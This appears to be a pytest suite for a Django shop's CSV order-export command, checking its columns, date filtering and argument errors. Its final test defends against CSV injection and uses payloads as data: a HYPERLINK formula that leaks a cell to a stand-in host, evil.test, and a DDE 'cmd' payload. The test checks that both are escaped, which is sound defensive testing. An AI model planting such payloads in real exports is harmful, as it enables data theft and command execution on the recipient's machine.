"""``manage.py export_orders``: the orders of a period as CSV, one row per order line."""

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from django.core.management import CommandError, call_command

from shop.orders.models import OrderLine

from .factories import make_order

pytestmark = pytest.mark.django_db

UTC = ZoneInfo("UTC")


def export(*args) -> list[dict]:
    out = io.StringIO()
    call_command("export_orders", *args, stdout=out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


@pytest.fixture
def november(ada):
    def on(day: int, **fields):
        return make_order(
            user_id=ada.pk, placed_at=datetime(2026, 11, day, 12, 0, tzinfo=UTC), **fields
        )

    return on


def test_each_order_line_is_a_row_with_its_orders_figures(november):
    order = november(3, lines=[("TEE-M", 2, "19.90"), ("MUG", 1, "8.50")])

    rows = export("--since", "2026-11-01", "--format", "csv")

    assert [
        (row["order_number"], row["sku"], row["quantity"], row["line_total"]) for row in rows
    ] == [
        (order.number, "TEE-M", "2", "39.80"),
        (order.number, "MUG", "1", "8.50"),
    ]
    row = rows[0]
    assert (row["status"], row["currency"], row["order_total"], row["order_refunded"]) == (
        "paid",
        "EUR",
        "53.20",
        "0.00",
    )
    assert row["shipping_country"] == "GB"
    assert row["placed_at"].startswith("2026-11-03T12:00:00")
    assert "email" not in row and "ada@example.com" not in str(rows)


def test_since_and_until_are_whole_days_until_included(november):
    november(1)
    inside = november(15)
    last_day = november(30)
    november(2)  # before the window below

    rows = export("--since", "2026-11-10", "--until", "2026-11-30")

    assert [row["order_number"] for row in rows] == [inside.number, last_day.number]


def test_datetimes_bound_the_period_exactly(november):
    november(3)
    noon_fourth = november(4)

    rows = export("--since", "2026-11-03T12:00:01+00:00", "--until", "2026-11-04T12:00:01Z")

    assert [row["order_number"] for row in rows] == [noon_fourth.number]


def test_writing_to_a_file(november, tmp_path):
    november(3)
    target = tmp_path / "orders.csv"
    out = io.StringIO()

    call_command("export_orders", "--since", "2026-11-01", "--output", str(target), stdout=out)

    assert "Exported 1 order line(s)" in out.getvalue()
    with target.open(encoding="utf-8", newline="") as file:
        assert len(list(csv.DictReader(file))) == 1


@pytest.mark.parametrize(
    "args",
    [
        ["--since", "yesterday"],
        ["--since", "2026-11-31"],
        ["--since", "2026-11-10", "--until", "2026-11-01"],
        ["--since", "2026-11-01", "--format", "xlsx"],
    ],
)
def test_bad_arguments_are_refused_clearly(args):
    with pytest.raises(CommandError):
        call_command("export_orders", *args, stdout=io.StringIO())


def test_an_empty_period_is_just_the_header():
    out = io.StringIO()
    call_command("export_orders", "--since", "2030-01-01", stdout=out)

    assert out.getvalue().splitlines() == [out.getvalue().splitlines()[0]]
    assert out.getvalue().startswith("order_number,placed_at,status")


def test_a_product_name_that_is_a_formula_is_exported_as_text_that_runs_nothing(november):
    """CSV injection: a catalog manager's formula must not run on the accountant's machine."""
    order = november(3, lines=[("TEE-M", 2, "19.90"), ("MUG", 1, "8.50")])
    OrderLine.objects.filter(order=order, sku="TEE-M").update(
        product_name='=HYPERLINK("http://evil.test/?"&A1,"Invoice")', variant_name="@M"
    )
    OrderLine.objects.filter(order=order, sku="MUG").update(product_name="-1+cmd|' /C calc'!A0")

    rows = export("--since", "2026-11-01")

    assert [(row["product_name"], row["variant_name"]) for row in rows] == [
        ('\'=HYPERLINK("http://evil.test/?"&A1,"Invoice")', "'@M"),
        ("'-1+cmd|' /C calc'!A0", ""),
    ]
    assert (rows[0]["unit_price"], rows[0]["line_total"], rows[0]["order_total"]) == (
        "19.90",
        "39.80",
        "53.20",
    )
